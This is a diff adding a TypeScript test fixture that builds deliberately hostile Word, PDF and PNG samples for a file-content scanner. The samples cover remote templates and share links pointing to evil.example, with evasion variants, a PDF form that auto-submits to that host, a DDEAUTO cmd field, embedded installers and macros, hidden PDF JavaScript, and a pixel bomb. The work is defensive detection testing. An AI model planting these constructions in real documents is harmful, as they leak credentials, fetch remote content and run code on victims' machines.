@@ -1,0 +1,204 @@
+import { deflateSync } from "node:zlib";
+import type { FileProblem } from "../../src/files/content/bad-file-error";
+import { pngChunk } from "../../src/files/content/png-chunks";
+import type { FileKind } from "../../src/files/file-kinds";
+import { DOCX_PARTS, doc, docx, packedObjects, pdf } from "./sample-files";
+
+const OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";
+
+/** A part that relates a document to one other thing. */
+export function relations(...attributes: string[]): string {
+  const all = attributes.map((one) => `<Relationship Id="r1" ${one}/>`).join("");
+  return `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${all}</Relationships>`;
+}
+
+const template = (target: string, mode = "External") =>
+  relations(`Type="${OFFICE}/attachedTemplate" Target="${target}" TargetMode="${mode}"`);
+const inSettings = (rels: string | Buffer) => docx({ "word/_rels/settings.xml.rels": rels });
+
+/** A document with another part, of the type that is given as it stands in XML. */
+function withPart(name: string, type: string, relation: string, content: string | Buffer): Buffer {
+  const types = (DOCX_PARTS["[Content_Types].xml"] ?? "").replace(
+    "</Types>",
+    `<Override PartName="/${name}" ContentType="${type}"/></Types>`,
+  );
+  const rels = relations(`Type="${OFFICE}/${relation}" Target="/${name}"`);
+  return docx({
+    "[Content_Types].xml": types,
+    "word/_rels/document.xml.rels": rels,
+    [name]: content,
+  });
+}
+
+function hugePng(): Buffer {
+  const header = Buffer.alloc(13);
+  header.writeUInt32BE(30_000, 0);
+  header.writeUInt32BE(30_000, 4);
+  header[8] = 1;
+  const pixels = deflateSync(Buffer.alloc(30_000 * (1 + 30_000 / 8)));
+  return Buffer.concat([
+    Buffer.from("89504e470d0a1a0a", "hex"),
+    pngChunk("IHDR", header),
+    pngChunk("IDAT", pixels),
+    pngChunk("IEND", Buffer.alloc(0)),
+  ]);
+}
+
+export interface HostileDocument {
+  title: string;
+  kind: FileKind;
+  bytes: Buffer;
+  problem: FileProblem;
+}
+
+const made = (
+  title: string,
+  kind: FileKind,
+  problem: FileProblem,
+  bytes: Buffer,
+): HostileDocument => ({ title, kind, bytes, problem });
+
+const SHEET = "application/vnd.ms-excel.sheet.macro&#69;nabled.12";
+const OLE = "application/vnd.openxmlformats-officedocument.oleObject";
+const COMPOUND = doc();
+
+/** Files that would run, fetch or hide something, or cost whoever opens them too much. */
+export const HOSTILE_DOCUMENTS: HostileDocument[] = [
+  made(
+    "a template whose address holds a bracket",
+    "docx",
+    "outsideContent",
+    inSettings(template("https://evil.example/a>b.dotm")),
+  ),
+  made(
+    "a template whose mode is spelt with an entity",
+    "docx",
+    "outsideContent",
+    inSettings(template("https://evil.example/a.dotm", "&#69;xternal")),
+  ),
+  made(
+    "a template named in UTF-16",
+    "docx",
+    "outsideContent",
+    inSettings(
+      Buffer.from(
+        `\ufeff${template("https://evil.example/a.dotm").replace('"1.0"', '"1.0" encoding="UTF-16"')}`,
+        "utf16le",
+      ),
+    ),
+  ),
+  made(
+    "a template beside an attribute that looks like a picture's",
+    "docx",
+    "unknownContent",
+    inSettings(
+      template("https://evil.example/a.dotm").replace("Id=", `Note="x/relationships/image'" Id=`),
+    ),
+  ),
+  made(
+    "a picture on another machine's share",
+    "docx",
+    "outsideContent",
+    docx({
+      "word/_rels/document.xml.rels": relations(
+        `Type="${OFFICE}/image" Target="file:///\\\\evil.example\\share\\a.png" TargetMode="External"`,
+      ),
+    }),
+  ),
+  made(
+    "an object under a picture's name",
+    "docx",
+    "embeddedContent",
+    withPart("word/media/image1.dat", OLE, "oleObject", COMPOUND),
+  ),
+  made(
+    "an embedded workbook with macros",
+    "docx",
+    "activeContent",
+    withPart("word/embeddings/a.xlsm", SHEET, "package", "PK"),
+  ),
+  made(
+    "an embedded installer",
+    "docx",
+    "embeddedContent",
+    withPart("word/embeddings/a.msi", "application/x-msi", "package", COMPOUND),
+  ),
+  made(
+    "a script among packed objects that do not say so",
+    "pdf",
+    "activeContent",
+    pdf(packedObjects("<< /S /JavaScript /JS (x) >>").replace("/Type /ObjStm ", "")),
+  ),
+  made(
+    "a form that sends itself on opening",
+    "pdf",
+    "activeContent",
+    pdf(
+      "5 0 obj\n<< /Type /Catalog /OpenAction << /S /SubmitForm /F << /FS /URL /F (https://evil.example) >> >> >>\nendobj\n",
+    ),
+  ),
+  made("a picture of 900 million pixels", "png", "tooManyPixels", hugePng()),
+  made(
+    "an installer under a picture's name and type",
+    "docx",
+    "embeddedContent",
+    withPart("word/embeddings/a.png", "image/png", "image", COMPOUND),
+  ),
+  made(
+    "a document type with entities",
+    "docx",
+    "activeContent",
+    docx({ "word/document.xml": '<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>' }),
+  ),
+  made(
+    "a field that asks another program",
+    "docx",
+    "outsideContent",
+    docx({
+      "word/document.xml": `<w:document xmlns:w="w"><w:fldChar w:fldCharType="begin"/><w:instrText>DD</w:instrText><w:instrText>EAUTO c:\\\\cmd</w:instrText><w:fldChar w:fldCharType="end"/></w:document>`,
+    }),
+  ),
+  made(
+    "an old drawing that fetches a picture",
+    "docx",
+    "outsideContent",
+    docx({ "word/document.xml": '<v:imagedata xmlns:v="v" src="\\\\evil.example\\a.png"/>' }),
+  ),
+  made(
+    "a link into a share",
+    "pdf",
+    "outsideContent",
+    pdf("4 0 obj\n<< /A << /S /URI /URI (file://evil.example/a) >> >>\nendobj\n"),
+  ),
+  made(
+    "a remote document to go to",
+    "pdf",
+    "outsideContent",
+    pdf("4 0 obj\n<< /S /GoToR /F (a.pdf) >>\nendobj\n"),
+  ),
+  made(
+    "an attachment",
+    "pdf",
+    "embeddedContent",
+    pdf("4 0 obj\n<< /Type /Filespec /EF << /F 5 0 R >> >>\nendobj\n"),
+  ),
+  made(
+    "a script inside a text that the table of objects leads to",
+    "pdf",
+    "activeContent",
+    pdf("4 0 obj\n(harmless\n5 0 obj\n<< /S /JavaScript /JS (x) >>\nendobj\n)\nendobj\n"),
+  ),
+  made(
+    "an entry that stands twice",
+    "pdf",
+    "damaged",
+    pdf("4 0 obj\n<< /S /JavaScript /S /URI >>\nendobj\n"),
+  ),
+  made(
+    "packed objects that are packed otherwise",
+    "pdf",
+    "unknownContent",
+    pdf(packedObjects("<<>>").replace("/FlateDecode", "[/ASCIIHexDecode /FlateDecode]")),
+  ),
+  made("an object under a storage", "doc", "embeddedContent", doc(["\u0001Ole10Native"])),
+];
